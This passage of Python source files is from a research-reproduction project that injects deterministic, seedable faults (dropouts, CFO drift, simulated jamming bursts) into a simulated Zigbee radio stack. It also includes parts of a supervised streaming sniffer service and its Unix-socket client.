                        detail=(
                            f"{int(outliers.sum())}/{len(items)} emissions "
                            f"beyond {self.sigma_threshold:.0f}σ of the "
                            "baseline power — a second emitter at a "
                            "different range"
                        ),
                        severity=fraction,
                    )
                )
        return alerts
