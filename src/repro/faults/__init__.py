"""Deterministic fault injection for the simulated radio stack.

The paper's evaluation (Table III, §V) is an exercise in reliability under
imperfect radio conditions.  This package lets any experiment or test run
under a *named chaos profile*: a seedable :class:`FaultPlan` describes
scheduled impairments — capture truncation, sample drops, CFO steps and
drift, delivery duplication, radio-dropout windows and scripted collision
bursts — and a :class:`FaultInjector` applies them at the
:class:`~repro.radio.medium.RfMedium` / transceiver boundary.

Identical seeds and identical plans produce bit-identical runs.
"""

from repro.faults.plan import (
    CaptureTruncation,
    CfoStep,
    CollisionBurst,
    DeliveryDuplication,
    DropoutWindow,
    FaultPlan,
    SampleDrops,
    named_profile,
    profile_names,
)
from repro.faults.injector import FaultInjector, FaultStats
from repro.faults.service import (
    ChaoticSink,
    ServiceFaultPlan,
    named_service_profile,
    service_profile_names,
)

__all__ = [
    "CaptureTruncation",
    "CfoStep",
    "CollisionBurst",
    "DeliveryDuplication",
    "DropoutWindow",
    "FaultPlan",
    "SampleDrops",
    "named_profile",
    "profile_names",
    "FaultInjector",
    "FaultStats",
    "ChaoticSink",
    "ServiceFaultPlan",
    "named_service_profile",
    "service_profile_names",
]
