"""Fault plans: declarative, seedable descriptions of channel chaos.

A :class:`FaultPlan` is pure data — frozen dataclasses, no radio state — so
it can be logged, compared, and replayed.  Determinism contract: the same
plan (including its ``seed``) applied to the same simulation produces
bit-identical results, because every stochastic choice the injector makes
is drawn from ``numpy.random.default_rng(plan.seed)`` in event order.

Count-based faults (``every_nth``) index deterministic per-kind counters
kept by the injector; time-based faults (windows, bursts, CFO steps) are
expressed in absolute simulation seconds.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Tuple

from repro.dot15d4.channels import channel_frequency_hz

__all__ = [
    "DropoutWindow",
    "CollisionBurst",
    "CfoStep",
    "CaptureTruncation",
    "SampleDrops",
    "DeliveryDuplication",
    "FaultPlan",
    "named_profile",
    "profile_names",
]


@dataclass(frozen=True)
class DropoutWindow:
    """Receiver deafness: deliveries ending inside [start_s, end_s) are lost.

    ``radio_name`` limits the dropout to one receiver; ``None`` hits all.
    Models a radio mid-retune, a saturated front end, or a firmware stall.
    """

    start_s: float
    end_s: float
    radio_name: Optional[str] = None

    def covers(self, time: float, radio_name: str) -> bool:
        if not self.start_s <= time < self.end_s:
            return False
        return self.radio_name is None or self.radio_name == radio_name


@dataclass(frozen=True)
class CollisionBurst:
    """A scripted jamming burst put on the air as a real transmission.

    Because the burst enters the medium's transmission list, it is visible
    both to receivers (it corrupts overlapping captures) *and* to CSMA-CA
    clear-channel assessment — which is what lets the chaos tests prove the
    MAC defers around it.

    ``period_s``/``count`` repeat the burst; ``count`` bounds repetition so
    a plan is always finite.
    """

    start_s: float
    duration_s: float
    power_dbm: float = 10.0
    center_hz: float = channel_frequency_hz(14)
    period_s: Optional[float] = None
    count: int = 1


@dataclass(frozen=True)
class CfoStep:
    """From *at_s* onward, receivers see an extra LO offset of *offset_hz*.

    A sequence of steps models a drifting or temperature-stepped crystal;
    the injector applies the most recent step at each capture.
    """

    at_s: float
    offset_hz: float


@dataclass(frozen=True)
class CaptureTruncation:
    """Every *every_nth* capture keeps only the leading *keep_fraction*.

    The tail samples are zeroed — the shape of a capture buffer that
    filled up, or an RX window the firmware closed early.
    """

    every_nth: int = 2
    keep_fraction: float = 0.5


@dataclass(frozen=True)
class SampleDrops:
    """Every *every_nth* capture loses *num_gaps* windows of *gap_samples*.

    Gap positions are drawn from the plan RNG — deterministic for a given
    seed.  Models DMA underruns / sample clock glitches.
    """

    every_nth: int = 2
    num_gaps: int = 3
    gap_samples: int = 64


@dataclass(frozen=True)
class DeliveryDuplication:
    """Every *every_nth* delivery is handed to the receiver twice.

    Exercises MAC duplicate rejection the way a real capture replay or a
    correlator double-fire would.
    """

    every_nth: int = 2


@dataclass(frozen=True)
class FaultPlan:
    """A complete, seedable chaos description.

    An empty plan (the default) injects nothing; installing it is
    equivalent to running clean.
    """

    seed: int = 0
    name: str = "custom"
    dropouts: Tuple[DropoutWindow, ...] = ()
    bursts: Tuple[CollisionBurst, ...] = ()
    cfo_steps: Tuple[CfoStep, ...] = ()
    cfo_drift_hz_per_s: float = 0.0
    truncation: Optional[CaptureTruncation] = None
    sample_drops: Optional[SampleDrops] = None
    duplication: Optional[DeliveryDuplication] = None

    def is_clean(self) -> bool:
        return not (
            self.dropouts
            or self.bursts
            or self.cfo_steps
            or self.cfo_drift_hz_per_s
            or self.truncation
            or self.sample_drops
            or self.duplication
        )


# ---------------------------------------------------------------------------
# Named profiles
# ---------------------------------------------------------------------------


def _clean(channel: int, seed: int) -> FaultPlan:
    return FaultPlan(seed=seed, name="clean")


def _flaky_rx(channel: int, seed: int) -> FaultPlan:
    return FaultPlan(
        seed=seed,
        name="flaky-rx",
        truncation=CaptureTruncation(every_nth=3, keep_fraction=0.4),
        sample_drops=SampleDrops(every_nth=2, num_gaps=4, gap_samples=96),
    )


def _jammer(channel: int, seed: int) -> FaultPlan:
    return FaultPlan(
        seed=seed,
        name="jammer",
        bursts=(
            CollisionBurst(
                start_s=0.5e-3,
                duration_s=1.5e-3,
                power_dbm=10.0,
                center_hz=channel_frequency_hz(channel),
                period_s=10e-3,
                count=200,
            ),
        ),
    )


def _drifting(channel: int, seed: int) -> FaultPlan:
    return FaultPlan(
        seed=seed,
        name="drifting",
        cfo_steps=(CfoStep(at_s=0.0, offset_hz=20e3),),
        cfo_drift_hz_per_s=5e3,
    )


def _dropout(channel: int, seed: int) -> FaultPlan:
    # A 40% duty-cycle square wave of receiver deafness.
    windows = tuple(
        DropoutWindow(start_s=0.010 * k, end_s=0.010 * k + 0.004)
        for k in range(200)
    )
    return FaultPlan(seed=seed, name="dropout", dropouts=windows)


def _harsh(channel: int, seed: int) -> FaultPlan:
    return FaultPlan(
        seed=seed,
        name="harsh",
        dropouts=tuple(
            DropoutWindow(start_s=0.020 * k, end_s=0.020 * k + 0.005)
            for k in range(100)
        ),
        bursts=(
            CollisionBurst(
                start_s=1e-3,
                duration_s=2e-3,
                power_dbm=10.0,
                center_hz=channel_frequency_hz(channel),
                period_s=15e-3,
                count=150,
            ),
        ),
        truncation=CaptureTruncation(every_nth=4, keep_fraction=0.5),
        duplication=DeliveryDuplication(every_nth=5),
    )


_PROFILES = {
    "clean": _clean,
    "flaky-rx": _flaky_rx,
    "jammer": _jammer,
    "drifting": _drifting,
    "dropout": _dropout,
    "harsh": _harsh,
}


def profile_names() -> Tuple[str, ...]:
    """Names accepted by :func:`named_profile` (and the CLI ``--chaos``)."""
    return tuple(sorted(_PROFILES))


def named_profile(name: str, channel: int = 14, seed: int = 0) -> FaultPlan:
    """Build one of the catalogue profiles, targeted at a Zigbee channel."""
    try:
        factory = _PROFILES[name]
    except KeyError:
        raise ValueError(
            f"unknown chaos profile {name!r}; choose from {profile_names()}"
        ) from None
    return factory(channel, seed)
