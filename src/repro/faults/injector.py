"""The fault injector: applies a :class:`~repro.faults.plan.FaultPlan`.

The injector sits at the two seams every impairment must pass through:

* **delivery scheduling** (:meth:`RfMedium.transmit`) — dropout windows
  suppress a delivery, duplication schedules it twice;
* **capture composition** (:meth:`RfMedium.compose_capture` → delivery) —
  truncation, sample drops and CFO steps/drift distort the capture a
  receiver actually demodulates.

Scripted collision bursts are injected as *real* transmissions from a
phantom jammer source, so they both corrupt overlapping captures and show
up in :attr:`RfMedium.active_transmissions` — i.e. CSMA-CA clear-channel
assessment sees them and can defer.

Determinism contract (mirrors the medium's): scripted bursts draw from the
single ``default_rng(plan.seed)`` — they are scheduled once, at install, in
plan order.  Everything evaluated *per delivery or capture* (duplication
counters, truncation/sample-drop cadence, gap positions) is keyed by the
receiving radio's name, so each receiver sees the same fault sequence
regardless of how deliveries to *other* receivers interleave with its own.
A run under a given (seed, plan, per-receiver delivery sequence) is
therefore bit-identical whether the fleet is simulated densely, sharded,
or with a different set of bystander nodes attached.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, Optional, Tuple

import numpy as np

from repro.dsp.impairments import apply_frequency_offset
from repro.dsp.signal import IQSignal
from repro.faults.plan import FaultPlan
from repro.obs import FAULT_INJECTED
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.radio.medium import RfMedium, Transmission
    from repro.radio.transceiver import Transceiver

__all__ = ["FaultStats", "FaultInjector"]


@dataclass
class FaultStats:
    """What the injector actually did, for experiment reports and tests."""

    bursts_injected: int = 0
    deliveries_dropped: int = 0
    deliveries_duplicated: int = 0
    captures_truncated: int = 0
    captures_sample_dropped: int = 0
    captures_cfo_shifted: int = 0

    def total_faults(self) -> int:
        return (
            self.bursts_injected
            + self.deliveries_dropped
            + self.deliveries_duplicated
            + self.captures_truncated
            + self.captures_sample_dropped
            + self.captures_cfo_shifted
        )


class _JammerSource:
    """Phantom transmitter the scripted bursts are attributed to.

    Quacks enough like a :class:`Transceiver` for the medium's transmit
    path (``position`` for path loss, ``name`` for logs); never attached,
    so it is never a delivery target itself.
    """

    is_listening = False

    def __init__(self, name: str, position: Tuple[float, float]):
        self.name = name
        self.position = position

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return f"_JammerSource({self.name!r})"


class FaultInjector:
    """Applies a :class:`FaultPlan` to one :class:`RfMedium`."""

    def __init__(
        self,
        plan: FaultPlan,
        jammer_position: Tuple[float, float] = (0.0, 0.0),
    ):
        self.plan = plan
        self.rng = np.random.default_rng(plan.seed)
        self.stats = FaultStats()
        self.jammer_position = jammer_position
        self.medium: Optional["RfMedium"] = None
        self._delivery_counters: Dict[str, int] = {}
        self._capture_counters: Dict[str, int] = {}
        self._rx_rngs: Dict[str, np.random.Generator] = {}
        self.trace = _current_bus()
        self.metrics = _current_metrics()

    def _rx_rng(self, name: str) -> np.random.Generator:
        """Per-receiver fault stream, keyed by name (not delivery order)."""
        rng = self._rx_rngs.get(name)
        if rng is None:
            key = zlib.crc32(name.encode("utf-8"))
            rng = np.random.default_rng(
                np.random.SeedSequence(entropy=self.plan.seed, spawn_key=(key,))
            )
            self._rx_rngs[name] = rng
        return rng

    def _record(self, kind: str, **fields) -> None:
        """Count one applied impairment and trace it when anyone listens."""
        self.metrics.counter(f"fault.{kind}").inc()
        if self.trace.active:
            now = self.medium.scheduler.now if self.medium is not None else 0.0
            self.trace.emit(FAULT_INJECTED, time=now, kind=kind, **fields)

    # -- installation --------------------------------------------------------
    def install(self, medium: "RfMedium") -> None:
        """Bind to *medium* and schedule every scripted burst."""
        if self.medium is not None:
            raise RuntimeError("fault injector is already installed")
        self.medium = medium
        for index, burst in enumerate(self.plan.bursts):
            source = _JammerSource(
                f"fault-burst-{index}", self.jammer_position
            )
            repeats = burst.count if burst.period_s is not None else 1
            for k in range(repeats):
                at = burst.start_s + (burst.period_s or 0.0) * k
                if at < medium.scheduler.now:
                    continue
                medium.scheduler.schedule_at(
                    at, lambda b=burst, s=source: self._emit_burst(b, s)
                )

    def _emit_burst(self, burst, source: _JammerSource) -> None:
        assert self.medium is not None
        num = max(1, int(round(burst.duration_s * self.medium.sample_rate)))
        samples = (
            self.rng.standard_normal(num) + 1j * self.rng.standard_normal(num)
        ) / np.sqrt(2.0)
        signal = IQSignal(samples, self.medium.sample_rate, burst.center_hz)
        self.medium.transmit(source, signal, burst.power_dbm)
        self.stats.bursts_injected += 1
        self._record(
            "burst", source=source.name, center_hz=burst.center_hz
        )

    # -- delivery fate -------------------------------------------------------
    def delivery_count(self, radio: "Transceiver", tx: "Transmission") -> int:
        """How many times *tx* should be delivered to *radio* (0, 1 or 2)."""
        count = self._delivery_counters.get(radio.name, 0) + 1
        self._delivery_counters[radio.name] = count
        for window in self.plan.dropouts:
            if window.covers(tx.end_time, radio.name):
                self.stats.deliveries_dropped += 1
                self._record("delivery_drop", rx=radio.name, tx_id=tx.identifier)
                return 0
        dup = self.plan.duplication
        if dup is not None and count % dup.every_nth == 0:
            self.stats.deliveries_duplicated += 1
            self._record("delivery_duplicate", rx=radio.name, tx_id=tx.identifier)
            return 2
        return 1

    # -- capture distortion --------------------------------------------------
    def transform_capture(
        self, radio: "Transceiver", capture: IQSignal, start_time: float
    ) -> IQSignal:
        """Apply the plan's capture-side impairments to one RX capture."""
        count = self._capture_counters.get(radio.name, 0) + 1
        self._capture_counters[radio.name] = count
        samples = capture.samples
        drops = self.plan.sample_drops
        if drops is not None and count % drops.every_nth == 0:
            samples = samples.copy()
            rng = self._rx_rng(radio.name)
            for _ in range(drops.num_gaps):
                if samples.size <= drops.gap_samples:
                    samples[:] = 0.0
                    break
                start = int(
                    rng.integers(0, samples.size - drops.gap_samples)
                )
                samples[start : start + drops.gap_samples] = 0.0
            self.stats.captures_sample_dropped += 1
        trunc = self.plan.truncation
        if trunc is not None and count % trunc.every_nth == 0:
            keep = int(samples.size * trunc.keep_fraction)
            samples = samples.copy()
            samples[keep:] = 0.0
            self.stats.captures_truncated += 1
        distorted = IQSignal(
            samples, capture.sample_rate, capture.center_frequency
        )
        # Evaluate the oscillator state at delivery time: the capture window
        # starts a margin *before* the transmission, which would otherwise
        # miss a step scheduled at the very same instant.
        when = (
            self.medium.scheduler.now if self.medium is not None else start_time
        )
        offset = self._cfo_at(when)
        if offset:
            distorted = apply_frequency_offset(distorted, offset)
            self.stats.captures_cfo_shifted += 1
        return distorted

    def _cfo_at(self, time: float) -> float:
        offset = 0.0
        for step in self.plan.cfo_steps:
            if step.at_s <= time:
                offset = step.offset_hz
        offset += self.plan.cfo_drift_hz_per_s * time
        return offset
