"""Service-level chaos: faults aimed at the sniffer daemon itself.

The radio chaos profiles (:mod:`repro.faults.plan`) degrade the *bench*;
these degrade the *service* — the failure modes a long-running sniffer
meets in the field:

* **subscriber stalls** — a client stops reading mid-stream, then
  resumes (filling its ring and exercising the backpressure policy);
* **socket errors** — a client's connection dies mid-write;
* **burst floods** — the radio world delivers frames far faster than
  the steady state (a jam of traffic the shed ladder must absorb);
* **pipeline crashes** — the world stage raises, exercising the
  supervisor's capped-backoff restart path.

Like the radio plans, a :class:`ServiceFaultPlan` is pure data and the
same plan yields the same fault schedule (counters, not wall-clock,
drive every trigger).
"""

from __future__ import annotations

import time as _time
from dataclasses import dataclass
from typing import Optional, Tuple

from repro.obs import metrics as _current_metrics

__all__ = [
    "ServiceFaultPlan",
    "ChaoticSink",
    "named_service_profile",
    "service_profile_names",
]


@dataclass(frozen=True)
class ServiceFaultPlan:
    """A complete, deterministic service-chaos description."""

    seed: int = 0
    name: str = "custom"
    # -- subscriber-side (applied by wrapping session sinks) ---------------
    #: After this many sink writes, the sink stalls once for
    #: ``stall_duration_s`` (0 disables).
    stall_after_writes: int = 0
    stall_duration_s: float = 0.0
    #: After this many sink writes, every further write raises OSError
    #: (0 disables).
    error_after_writes: int = 0
    #: Which sessions receive the chaotic sink (1 = every session).
    fault_every_nth_session: int = 1
    # -- source-side (applied inside the world stage) ----------------------
    #: Every N produced frames, emit a burst of ``flood_factor`` frames
    #: back-to-back with no pacing (0 disables).
    flood_every_frames: int = 0
    flood_factor: int = 8
    #: Production indices at which the world stage raises once —
    #: the supervisor must restart it and resume the stream.
    crash_at_frames: Tuple[int, ...] = ()

    def is_clean(self) -> bool:
        return not (
            self.stall_after_writes
            or self.error_after_writes
            or self.flood_every_frames
            or self.crash_at_frames
        )

    def wants_sink_faults(self, session_index: int) -> bool:
        if self.stall_after_writes == 0 and self.error_after_writes == 0:
            return False
        nth = max(1, self.fault_every_nth_session)
        return session_index % nth == 0


class ChaoticSink:
    """Wrap a session sink with scripted stalls and write errors."""

    def __init__(self, inner, plan: ServiceFaultPlan):
        self._inner = inner
        self._plan = plan
        self._writes = 0
        self._stalled_once = False
        self._metrics = _current_metrics()

    def write(self, data: bytes) -> None:
        self._writes += 1
        plan = self._plan
        if (
            plan.stall_after_writes
            and not self._stalled_once
            and self._writes > plan.stall_after_writes
        ):
            self._stalled_once = True
            self._metrics.counter("faults.service.stalls").inc()
            _time.sleep(plan.stall_duration_s)
        if plan.error_after_writes and self._writes > plan.error_after_writes:
            self._metrics.counter("faults.service.socket_errors").inc()
            raise OSError("injected service socket error")
        self._inner.write(data)

    def close(self) -> None:
        self._inner.close()


# ---------------------------------------------------------------------------
# Named profiles
# ---------------------------------------------------------------------------


def _svc_stall(seed: int) -> ServiceFaultPlan:
    return ServiceFaultPlan(
        seed=seed,
        name="svc-stall",
        stall_after_writes=20,
        stall_duration_s=0.4,
    )


def _svc_socket(seed: int) -> ServiceFaultPlan:
    return ServiceFaultPlan(seed=seed, name="svc-socket", error_after_writes=25)


def _svc_flood(seed: int) -> ServiceFaultPlan:
    return ServiceFaultPlan(
        seed=seed, name="svc-flood", flood_every_frames=10, flood_factor=6
    )


def _svc_crash(seed: int) -> ServiceFaultPlan:
    return ServiceFaultPlan(seed=seed, name="svc-crash", crash_at_frames=(10, 30))


def _svc_storm(seed: int) -> ServiceFaultPlan:
    """Stalls + floods + a crash: the acceptance-criteria profile."""
    return ServiceFaultPlan(
        seed=seed,
        name="svc-storm",
        stall_after_writes=15,
        stall_duration_s=0.3,
        flood_every_frames=8,
        flood_factor=6,
        crash_at_frames=(20,),
    )


_SERVICE_PROFILES = {
    "svc-stall": _svc_stall,
    "svc-socket": _svc_socket,
    "svc-flood": _svc_flood,
    "svc-crash": _svc_crash,
    "svc-storm": _svc_storm,
}


def service_profile_names() -> Tuple[str, ...]:
    """Names accepted by :func:`named_service_profile` (serve ``--chaos``)."""
    return tuple(sorted(_SERVICE_PROFILES))


def named_service_profile(name: str, seed: int = 0) -> ServiceFaultPlan:
    try:
        factory = _SERVICE_PROFILES[name]
    except KeyError:
        raise ValueError(
            f"unknown service chaos profile {name!r}; choose from "
            f"{service_profile_names()}"
        ) from None
    return factory(seed)
