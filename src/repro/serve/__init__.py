"""Streaming sniffer service: ``repro serve``.

Turns the batch experiment runner into a long-running daemon that drives
the radio world continuously and streams decoded 802.15.4 frames to many
concurrent subscribers — as JSONL or PCAP (DLT 195) over a Unix socket —
with the robustness core this subsystem exists for:

* per-subscriber **bounded rings** with an explicit backpressure policy
  (``block`` / ``drop-oldest`` / ``disconnect-slow``);
* a **session supervisor** with heartbeats, stall/idle timeouts and
  capped exponential-backoff restarts of crashed pipeline stages;
* **graceful overload degradation** — under queue pressure the service
  sheds trace records first, then corrupt frames, then downsamples,
  every shed counted and announced;
* **drain-on-SIGTERM** with a crash-safe spool that ``--replay`` can
  reproduce byte-for-byte.
"""

from repro.serve.client import SnifferClient, subscribe
from repro.serve.codec import (
    DLT_IEEE802_15_4,
    encode_jsonl,
    frame_record,
    parse_pcap,
    pcap_global_header,
)
from repro.serve.config import BACKPRESSURE_POLICIES, ServeConfig
from repro.serve.ring import BoundedRing
from repro.serve.server import SnifferServer
from repro.serve.session import (
    CollectingSink,
    Sink,
    SocketSink,
    StreamSink,
    SubscriberSession,
)
from repro.serve.shed import SHED_LEVEL_NAMES, DegradeLadder
from repro.serve.source import SimWorldSource, SpoolReplaySource
from repro.serve.spool import SpoolReader, SpoolWriter
from repro.serve.supervisor import SupervisedStage, Supervisor

__all__ = [
    "BACKPRESSURE_POLICIES",
    "BoundedRing",
    "CollectingSink",
    "DegradeLadder",
    "DLT_IEEE802_15_4",
    "SHED_LEVEL_NAMES",
    "ServeConfig",
    "SimWorldSource",
    "Sink",
    "SnifferClient",
    "SnifferServer",
    "SocketSink",
    "SpoolReader",
    "SpoolReplaySource",
    "SpoolWriter",
    "StreamSink",
    "SubscriberSession",
    "SupervisedStage",
    "Supervisor",
    "encode_jsonl",
    "frame_record",
    "parse_pcap",
    "pcap_global_header",
    "subscribe",
]
