"""Subscriber client for the sniffer service's Unix-socket protocol.

Protocol, from the client's side:

1. connect to the Unix stream socket;
2. send one JSON *hello* line choosing the stream format
   (``jsonl``/``pcap``), the backpressure policy this session should run
   under, and an optional session name;
3. read records — JSONL lines, or the pcap global header followed by
   pcap records.

The client is used by ``examples/live_sniffer.py``, the service tests
and the CI smoke job; it deliberately has no dependency on the server
side beyond the codec.
"""

from __future__ import annotations

import json
import socket
from typing import Any, Dict, Iterator, Optional

from repro.serve.codec import decode_jsonl

__all__ = ["SnifferClient", "subscribe"]


class SnifferClient:
    """One subscription to a running sniffer service."""

    def __init__(
        self,
        path: str,
        fmt: str = "jsonl",
        policy: Optional[str] = None,
        name: Optional[str] = None,
        timeout_s: float = 10.0,
    ):
        self.fmt = fmt
        self._sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._sock.settimeout(timeout_s)
        self._sock.connect(path)
        hello: Dict[str, Any] = {"format": fmt}
        if policy is not None:
            hello["policy"] = policy
        if name is not None:
            hello["name"] = name
        self._sock.sendall((json.dumps(hello) + "\n").encode("utf-8"))
        self._buffer = bytearray()

    # -- byte plumbing ------------------------------------------------------
    def _recv_more(self) -> bool:
        try:
            chunk = self._sock.recv(65536)
        except socket.timeout:
            return False
        if not chunk:
            return False
        self._buffer.extend(chunk)
        return True

    def read_exact(self, n: int) -> bytes:
        while len(self._buffer) < n:
            if not self._recv_more():
                raise ConnectionError(
                    f"stream ended with {len(self._buffer)}/{n} bytes buffered"
                )
        data = bytes(self._buffer[:n])
        del self._buffer[:n]
        return data

    def read_all(self, idle_rounds: int = 1) -> bytes:
        """Drain the socket until it closes (or stays idle)."""
        misses = 0
        while misses < idle_rounds:
            if self._recv_more():
                misses = 0
            else:
                misses += 1
        data = bytes(self._buffer)
        self._buffer.clear()
        return data

    # -- jsonl --------------------------------------------------------------
    def records(self, limit: Optional[int] = None) -> Iterator[Dict[str, Any]]:
        """Yield decoded JSONL records until *limit*, ``bye`` or EOF."""
        assert self.fmt == "jsonl", "records() is for jsonl sessions"
        yielded = 0
        while limit is None or yielded < limit:
            newline = self._buffer.find(b"\n")
            if newline < 0:
                if not self._recv_more():
                    return
                continue
            line = bytes(self._buffer[:newline])
            del self._buffer[: newline + 1]
            if not line.strip():
                continue
            record = decode_jsonl(line)
            yield record
            yielded += 1
            if record.get("type") == "bye":
                return

    def frames(self, limit: int) -> Iterator[Dict[str, Any]]:
        """Yield only frame records, up to *limit*."""
        count = 0
        for record in self.records():
            if record.get("type") == "frame":
                yield record
                count += 1
                if count >= limit:
                    return

    def close(self) -> None:
        try:
            self._sock.close()
        except OSError:
            pass

    def __enter__(self) -> "SnifferClient":
        return self

    def __exit__(self, *_exc) -> None:
        self.close()


def subscribe(
    path: str,
    fmt: str = "jsonl",
    policy: Optional[str] = None,
    name: Optional[str] = None,
    timeout_s: float = 10.0,
) -> SnifferClient:
    """Convenience constructor mirroring the server's ``attach_session``."""
    return SnifferClient(path, fmt=fmt, policy=policy, name=name, timeout_s=timeout_s)
