"""Stage supervision: restarts, backoff, and session health monitoring.

The service pipeline is a handful of named *stages* (world source,
socket accept loop, session monitor), each a thread.  The supervisor
wraps every stage in a crash barrier: an escaping exception is counted,
emitted on the trace bus (``serve.stage``), and the stage is restarted
after a capped exponential backoff — until ``max_restarts`` is spent,
at which point the supervisor declares the stage fatal and asks the
server to shut down rather than limp along half-alive.

The monitor half watches subscriber sessions: a session whose ring is
full and which has made no progress past its stall timeout is stalled
(disconnected with ``stalled``); one that consumed nothing for the idle
timeout is closed as ``idle``.
"""

from __future__ import annotations

import threading
import time as _time
from typing import Callable, Dict, List, Optional

from repro.obs import SERVE_STAGE, metrics as _current_metrics
from repro.obs import trace_bus as _current_bus

__all__ = ["StageStats", "SupervisedStage", "Supervisor", "monitor_sessions"]


class StageStats:
    """Crash/restart bookkeeping for one stage."""

    __slots__ = ("name", "starts", "crashes", "restarts", "gave_up", "last_error")

    def __init__(self, name: str):
        self.name = name
        self.starts = 0
        self.crashes = 0
        self.restarts = 0
        self.gave_up = False
        self.last_error: Optional[str] = None

    def as_dict(self) -> Dict[str, object]:
        return {
            "starts": self.starts,
            "crashes": self.crashes,
            "restarts": self.restarts,
            "gave_up": self.gave_up,
            "last_error": self.last_error,
        }


class SupervisedStage:
    """One pipeline stage under a restart policy.

    *target* is a callable taking the stop event; returning normally
    ends the stage (no restart), raising crashes it (restart with
    backoff).  Restartable targets must be resumable: the world source,
    for instance, keeps its frame cursor on the object, so a restart
    continues where the crash interrupted.
    """

    def __init__(
        self,
        name: str,
        target: Callable[[threading.Event], None],
        stop_event: threading.Event,
        max_restarts: int = 5,
        backoff_s: float = 0.05,
        backoff_cap_s: float = 1.0,
        on_fatal: Optional[Callable[[str, BaseException], None]] = None,
    ):
        self.stats = StageStats(name)
        self._target = target
        self._stop = stop_event
        self._max_restarts = max_restarts
        self._backoff_s = backoff_s
        self._backoff_cap_s = backoff_cap_s
        self._on_fatal = on_fatal
        self._metrics = _current_metrics()
        self._bus = _current_bus()
        self._thread = threading.Thread(
            target=self._run, name=f"serve-stage-{name}", daemon=True
        )

    def start(self) -> None:
        self._thread.start()

    def join(self, timeout_s: Optional[float] = None) -> None:
        self._thread.join(timeout=timeout_s)

    @property
    def alive(self) -> bool:
        return self._thread.is_alive()

    def _emit(self, outcome: str, **fields) -> None:
        self._metrics.counter(f"serve.stage.{outcome}").inc()
        if self._bus.active:
            self._bus.emit(
                SERVE_STAGE, stage=self.stats.name, outcome=outcome, **fields
            )

    def _run(self) -> None:
        while not self._stop.is_set():
            self.stats.starts += 1
            try:
                self._target(self._stop)
                return  # clean completion: the stage's work is done
            except Exception as exc:
                self.stats.crashes += 1
                self.stats.last_error = f"{type(exc).__name__}: {exc}"
                self._emit("crash", error=self.stats.last_error)
                if self.stats.crashes > self._max_restarts:
                    self.stats.gave_up = True
                    self._emit("fatal", crashes=self.stats.crashes)
                    if self._on_fatal is not None:
                        self._on_fatal(self.stats.name, exc)
                    return
                # Capped exponential backoff, responsive to shutdown.
                delay = min(
                    self._backoff_cap_s,
                    self._backoff_s * (2 ** (self.stats.crashes - 1)),
                )
                self.stats.restarts += 1
                self._emit("restart", backoff_s=delay)
                if self._stop.wait(delay):
                    return


class Supervisor:
    """Owns the stages and the session health monitor."""

    def __init__(
        self,
        stop_event: threading.Event,
        max_restarts: int = 5,
        backoff_s: float = 0.05,
        backoff_cap_s: float = 1.0,
        on_fatal: Optional[Callable[[str, BaseException], None]] = None,
    ):
        self._stop = stop_event
        self._max_restarts = max_restarts
        self._backoff_s = backoff_s
        self._backoff_cap_s = backoff_cap_s
        self._on_fatal = on_fatal
        self.stages: Dict[str, SupervisedStage] = {}

    def spawn(
        self, name: str, target: Callable[[threading.Event], None]
    ) -> SupervisedStage:
        stage = SupervisedStage(
            name,
            target,
            self._stop,
            max_restarts=self._max_restarts,
            backoff_s=self._backoff_s,
            backoff_cap_s=self._backoff_cap_s,
            on_fatal=self._on_fatal,
        )
        self.stages[name] = stage
        stage.start()
        return stage

    def join_all(self, timeout_s: float) -> None:
        deadline = _time.monotonic() + timeout_s
        for stage in self.stages.values():
            stage.join(max(0.0, deadline - _time.monotonic()))

    def stats(self) -> Dict[str, Dict[str, object]]:
        return {name: s.stats.as_dict() for name, s in self.stages.items()}


def monitor_sessions(
    sessions: Callable[[], List],
    stop_event: threading.Event,
    stall_timeout_s: float,
    idle_timeout_s: float,
    interval_s: float = 0.1,
) -> None:
    """Heartbeat loop disconnecting stalled and idle sessions.

    *sessions* is a callable returning the live session list (the server
    guards it with its own lock).  Designed to run as a supervised
    stage.
    """
    registry = _current_metrics()
    while not stop_event.wait(interval_s):
        now = _time.monotonic()
        for session in sessions():
            if session.closed:
                continue
            ring_full = session.ring.fill_fraction >= 1.0
            quiet_for = now - session.last_progress
            if ring_full and quiet_for > stall_timeout_s:
                registry.counter("serve.sessions.stalled").inc()
                session.request_disconnect("stalled")
                session.close("stalled")
            elif (
                idle_timeout_s > 0
                and session.records_delivered == 0
                and quiet_for > idle_timeout_s
            ):
                registry.counter("serve.sessions.idle_closed").inc()
                session.close("idle")
