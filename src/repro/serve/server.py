"""The supervised streaming sniffer server behind ``repro serve``.

Wiring::

    SimWorldSource ──publish──▶ spool ──▶ shed ladder ──▶ session rings
        (stage)                                               │ writer threads
    SpoolReplaySource (--replay)                              ▼
    accept loop (stage) ──▶ handshake ──▶ SubscriberSession  sinks (sockets)
    monitor (stage) ──▶ stalls / idle timeouts

Everything that can fail independently is a supervised stage; everything
that can block is behind a bounded ring.  The broadcast path is single-
threaded (one ``publish`` lock), which is what makes the frame ledger
exact: every produced frame is spooled, then either shed by the ladder
(counted per class) or offered to every open session, where the
session's policy accounts for it as delivered or dropped.
"""

from __future__ import annotations

import itertools
import json
import os
import socket
import threading
from typing import Any, Dict, List, Optional

from repro.errors import SessionOverflow
from repro.faults import ChaoticSink, named_service_profile
from repro.obs import SERVE_SESSION, SERVE_SHED
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.serve.codec import notice_record
from repro.serve.config import ServeConfig
from repro.serve.session import Sink, SocketSink, SubscriberSession
from repro.serve.shed import SHED_LEVEL_NAMES, DegradeLadder
from repro.serve.source import SimWorldSource, SpoolReplaySource
from repro.serve.spool import SpoolWriter
from repro.serve.supervisor import Supervisor, monitor_sessions

__all__ = ["SnifferServer"]


class SnifferServer:
    """Long-running sniffer service: drive, broadcast, supervise, drain."""

    def __init__(self, config: ServeConfig):
        self.config = config.validated()
        self.bus = _current_bus()
        self.registry = _current_metrics()
        self.stop_event = threading.Event()
        self.drained = threading.Event()
        self.failed_stage: Optional[str] = None
        self._sessions: List[SubscriberSession] = []
        self._sessions_lock = threading.Lock()
